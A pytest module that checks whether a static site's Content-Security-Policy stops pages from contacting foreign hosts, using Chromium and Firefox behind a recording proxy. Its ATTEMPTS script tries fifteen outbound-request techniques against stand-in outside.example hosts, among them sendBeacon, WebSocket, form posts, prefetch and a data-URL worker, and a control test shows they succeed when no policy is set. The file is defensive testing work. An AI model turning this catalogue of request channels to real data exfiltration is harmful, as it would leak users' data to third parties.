"""Nothing leaves the page: every page is opened and used in both browsers, and asks for nothing but the site's own files.

Two records are kept: what the browser's driver reports of each page, its frames and its workers; and what reaches a proxy that
stands between the browser and the world. The same proxy is the foreign host that a page may try to reach and must not.
"""

import html
import json
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from calc.teach.lessons import LESSONS

from . import built, finding
from .conftest import Browsers
from .proxy import Proxy, listening
from .served import served
from .tab import Profile, Tab

READY = "document.documentElement.dataset.calc === 'ready'"
PYTHON_S = 90
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')

# Where links lead that people may follow to read more, out of the site. Nothing is loaded from there.
READING = {"github.com", "squidfunk.github.io"}
# Addresses in what others have written: in code that the pages never run, and in names of namespaces. The policy refuses what
# would ask for one.
IN_CODE_OF_OTHERS = {
    "api.github.com": "the theme, for a site that names its repository",
    "unpkg.com": "the theme, for pages with diagrams; and a comment",
    "cdn.jsdelivr.net": "pyodide, for packages that are not in the payload",
    "payload.invalid": "a name that stands for the payload, which no host can have",
    "www.w3.org": "the name of a namespace",
}
ADDRESS = re.compile(r"https?://([\w.-]+)")

# What a browser asks for without any page: its maker, or the name that Firefox's driver puts in the maker's place. A page that
# asked there would stand in the driver's record.
MAKERS = re.compile(r"(^|\.)(mozilla\.(com|net|org)|firefox\.com|google\.com|googleapis\.com|gvt1\.com|dummy\.test)$")

# Each kind of request with a host of its own, so that the proxy knows it again.
KINDS = (
    *("fetch", "xhr", "beacon", "image", "socket", "events", "module", "script", "style", "font", "frame", "form", "prefetch"),
    *("media", "worker"),
)
ATTEMPTS = """void (() => {
    const to = kind => `http://${kind}.outside.example/`;
    const put = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
    const attempt = {
        fetch: () => fetch(to("fetch")).catch(() => 0),
        xhr: () => { const asking = new XMLHttpRequest(); asking.open("GET", to("xhr")); asking.send(); },
        beacon: () => navigator.sendBeacon(to("beacon"), "text"),
        image: () => { new Image().src = to("image"); },
        socket: () => new WebSocket("ws://socket.outside.example/"),
        events: () => new EventSource(to("events")),
        module: () => import(to("module")).catch(() => 0),
        script: () => put("script", {src: to("script")}),
        style: () => put("link", {rel: "stylesheet", href: to("style")}),
        font: () => new FontFace("foreign", `url(${to("font")})`).load().catch(() => 0),
        frame: () => put("iframe", {src: to("frame")}),
        form: () => {
            put("iframe", {name: "inside"});
            const form = document.createElement("form");
            // Not encrypted: to such a host Chromium opens a connection ahead, and refuses the form itself only then.
            Object.assign(form, {action: to("form"), method: "post", target: "inside"});
            document.body.append(form);
            form.submit();
        },
        prefetch: () => put("link", {rel: "prefetch", href: to("prefetch")}),
        media: () => put("video", {src: to("media"), preload: "auto"}),
        // As the site starts Python's: such a worker has the policy of its page.
        worker: () => new Worker(`data:text/javascript,fetch("${to("worker")}").catch(() => 0)`, {type: "module"}),
    };
    for (const kind of KINDS) { try { attempt[kind](); } catch { /* refused at once */ } }
})()""".replace("KINDS", json.dumps(KINDS))


@dataclass
class Watched:
    """A browser whose every request to the world is noted."""

    name: str
    browser: Profile
    proxy: Proxy

    def hosts(self) -> set[str]:
        """The hosts that were asked for, but for those of the browser's maker."""
        asked = {urlsplit(each if "://" in each else f"//{each}").hostname or each for each in self.proxy.asked}
        return {host for host in asked if not MAKERS.search(host)}


@pytest.fixture(scope="module", params=["chromium", "firefox"])
def watched(request: pytest.FixtureRequest, browsers: Browsers, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Watched]:
    with listening() as proxy:
        browser = browsers[request.param].profile(tmp_path_factory.mktemp("watched"), proxy=proxy.port)
        yield Watched(request.param, browser, proxy)
        browser.close()


def use_worksheet(tab: Tab) -> None:
    tab.wait_for(READY, timeout_s=PYTHON_S)
    tab.click("#show-demo")
    tab.wait_for("document.querySelector('#findings article') !== null", timeout_s=PYTHON_S)


def use_calculation(tab: Tab) -> None:
    tab.click("[data-act=example]")
    tab.wait_for("document.querySelector('.ws-tried').textContent !== ''", timeout_s=PYTHON_S)


def use_lesson(tab: Tab) -> None:
    tab.wait_for_element("[data-question] input[type=text]")
    name = tab.evaluate(
        "document.querySelector('[data-question] input[type=text]').closest('[data-question]').dataset.question"
    )
    tab.fill(f"[data-question={name}] input[type=text]", "1")
    tab.click(f"[data-question={name}] [data-act=check]")
    tab.wait_for(f"document.querySelector('[data-question={name}] .qu-answer').textContent !== ''", timeout_s=PYTHON_S)


def use_practice(tab: Tab) -> None:
    tab.select("[name=level]", "1")
    tab.fill("[name=number]", "1234")
    tab.click("[data-act=start]")
    tab.wait_for("document.querySelector('#practice .pr-desk').dataset.done === '0'", timeout_s=PYTHON_S)


def use_search(tab: Tab) -> None:
    tab.set_viewport(1280)
    tab.focus(".md-search__input")
    tab.type("plunger")
    tab.wait_for_element(".md-search-result__link")


USED = {
    "worksheet.html": use_worksheet,
    "calculate/push-rod.html": use_calculation,
    f"learn/{LESSONS[3].name}.html": use_lesson,
    "learn/practice.html": use_practice,
    "index.html": use_search,
}


@pytest.mark.parametrize("scheme", ["file", "http"])
def test_every_page_opens_without_complaint_and_asks_for_nothing_but_the_sites_own_files(
    watched: Watched, bases: dict[str, str], site: Path, tmp_path: Path, scheme: str
) -> None:
    pages = built.pages(site)
    assert set(USED) <= set(pages)
    tab = watched.browser.tab(base=bases[scheme], downloads=tmp_path)
    complaints = []
    asked = 0
    try:
        for path in pages:
            tab.open(path)
            assert tab.evaluate("document.title"), f"{path} has no title"
            # What differs with the scheme is the worker, and the search's: in Firefox over http these are used, not the rest.
            if path in USED and ((watched.name, scheme) != ("firefox", "http") or path in ("worksheet.html", "index.html")):
                USED[path](tab)
            asked += len(tab.requests)
            # A request out of the site is one of them.
            complaints += [f"{path}: {text}" for text in tab.complaints()]
            tab.forget()
    finally:
        tab.close()
    assert not complaints, "\n".join(complaints)
    assert watched.hosts() == set()
    # Firefox tells of no `file:` address, but of the worker's.
    assert asked >= len(pages) or (watched.name, scheme) == ("firefox", "file")


@pytest.mark.parametrize("scheme", ["file", "http"])
def test_the_policy_refuses_every_way_to_ask_a_foreign_host(
    watched: Watched, bases: dict[str, str], tmp_path: Path, scheme: str
) -> None:
    for path in ("worksheet.html", "index.html"):
        tab = watched.browser.tab(base=bases[scheme], downloads=tmp_path)
        watched.proxy.asked.clear()
        tab.open(path)
        tab.evaluate(ATTEMPTS)
        time.sleep(1)
        tab.close()
        assert watched.hosts() == set(), path


def test_without_the_policy_every_one_of_these_would_arrive(watched: Watched, tmp_path: Path) -> None:
    """The control: what the tests above find nowhere is seen where it is."""
    folder = tmp_path / "open"
    folder.mkdir()
    (folder / "index.html").write_text(
        '<!doctype html><html lang="en"><meta charset="utf-8"><link rel="icon" href="data:,"><title>Open</title><body>', "utf-8"
    )
    with served(folder) as base:
        tab = watched.browser.tab(base=base, downloads=tmp_path)
        watched.proxy.asked.clear()
        tab.open("index.html")
        tab.evaluate(ATTEMPTS)
        # What is fetched ahead waits until the browser has nothing else to do.
        end = time.monotonic() + 20
        while len(watched.hosts()) < len(KINDS) and time.monotonic() < end:
            time.sleep(0.1)
        reported = " ".join(tab.outside_requests())
        tab.close()
    missing = {f"{kind}.outside.example" for kind in KINDS} - watched.hosts()
    assert not missing, missing
    assert "http://fetch.outside.example/" in reported
    watched.proxy.asked.clear()


def test_leaving_for_a_foreign_page_is_what_no_policy_covers(watched: Watched, bases: dict[str, str], tmp_path: Path) -> None:
    """The page `look-up/where-it-works.md` says so. Should this fail, a browser has learned to refuse it: say that there."""
    tab = watched.browser.tab(base=bases["file"], downloads=tmp_path)
    watched.proxy.asked.clear()
    tab.open("index.html")
    tab.evaluate("void setTimeout(() => { location.href = 'http://leaving.outside.example/'; }, 50)")
    # The page is going: it is no longer asked.
    end = time.monotonic() + 20
    while not watched.hosts() and time.monotonic() < end:
        time.sleep(0.05)
    tab.close()
    assert watched.hosts() == {"leaving.outside.example"}
    watched.proxy.asked.clear()


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def tags(page: str) -> list[tuple[str, dict[str, str]]]:
    """Every tag of a page with its attributes."""
    reader = _Tags()
    reader.feed(page)
    return reader.found


def directives(policy: str) -> dict[str, list[str]]:
    """A policy taken apart."""
    parts = [part.split() for part in html.unescape(policy).split(";") if part.strip()]
    return {name: sources for name, *sources in parts}


def every_page(site: Path) -> dict[str, str]:
    """Every page, that of a server for an address which is not there included."""
    return {path: (site / path).read_text("utf-8") for path in [*built.pages(site), *sorted(built.SERVER_ONLY)]}


def test_every_page_has_the_policy_before_all_that_it_governs(site: Path) -> None:
    calculating = built.calculating(site)
    wrong = []
    for path, page in every_page(site).items():
        head = page[page.index("<head>") + len("<head>") :]
        policy = POLICY.match(head.lstrip())
        if not policy or len(POLICY.findall(page)) != 1:
            wrong.append(f"{path}: the policy is not the first thing in its head, or not the only one")
            continue
        said = directives(policy[1])
        allowed = {source for sources in said.values() for source in sources}
        for name in ("default-src", "connect-src", "base-uri", "form-action"):
            if said.get(name) != ["'none'"]:
                wrong.append(f"{path}: {name} is {said.get(name)}")
        # No host, no wildcard, no scheme that leads out.
        if strange := {each for each in allowed if not re.fullmatch(r"'[\w+/=-]+'|file:|data:|blob:", each)}:
            wrong.append(f"{path}: it allows {strange}")
        if {"'unsafe-eval'", "'strict-dynamic'", "'unsafe-hashes'"} & allowed or "'unsafe-inline'" in said["script-src"]:
            wrong.append(f"{path}: scripts may do more than they need")
        if path not in calculating and {"blob:", "'wasm-unsafe-eval'"} & set(said["script-src"]):
            wrong.append(f"{path}: it calculates nothing and may run Python")
    assert not wrong, "\n".join(wrong)


def test_no_page_loads_or_looks_up_anything_elsewhere(site: Path) -> None:
    wrong = []
    for path, page in every_page(site).items():
        for tag, attributes in tags(page):
            leads_out = [value for value in attributes.values() if re.match(r"(https?:)?//", value)]
            if tag == "a":
                hosts = {urlsplit(each).hostname for each in leads_out}
                if hosts - READING or "ping" in attributes:
                    wrong.append(f"{path}: a link to {hosts} that nobody has allowed")
                if leads_out and attributes.get("target") and "noopener" not in attributes.get("rel", ""):
                    wrong.append(f"{path}: {leads_out} gets hold of the page that opens it")
            elif leads_out and not (tag == "svg" and set(leads_out) == {"http://www.w3.org/2000/svg"}):
                wrong.append(f"{path}: {tag} asks for {leads_out}")
            if tag == "link" and not set(attributes["rel"].split()) <= {"stylesheet", "icon"}:
                wrong.append(f"{path}: a link for {attributes['rel']}")
        if ("meta", {"http-equiv": "x-dns-prefetch-control", "content": "off"}) not in tags(page):
            wrong.append(f"{path}: names of links may be looked up ahead")
    assert not wrong, "\n".join(wrong)


def test_the_projects_own_scripts_and_styles_hold_no_address(site: Path) -> None:
    docs = finding.ROOT / "docs"
    own = [*(docs / "app").rglob("*.js"), *(docs / "stylesheets").rglob("*.css"), *(docs / "overrides").rglob("*.html")]
    found = {host for file in own for host in ADDRESS.findall(file.read_text("utf-8"))}
    assert found <= {"payload.invalid", "www.w3.org"}
    # What others wrote and pages load; their languages for searching are loaded by none.
    others = [*(site / "generated" / "app").glob("*.js"), *(site / "assets").rglob("*.css"), *(site / "assets").rglob("*.js")]
    read = [file.read_text("utf-8") for file in others if "lunr" not in file.parts and file.name != "python-payload.js"]
    # Comments name where to read more.
    code = [re.sub(r"/\*.*?\*/|(?<![:\"'`])//[^\n]*", "", text, flags=re.DOTALL) for text in read]
    hosts = {host for text in code for host in ADDRESS.findall(text)}
    known = set(IN_CODE_OF_OTHERS) | {"clipboardjs.com", "fontawesome.com", "lunrjs.com", "bit.ly", "github.com"}
    assert hosts <= known, hosts - known
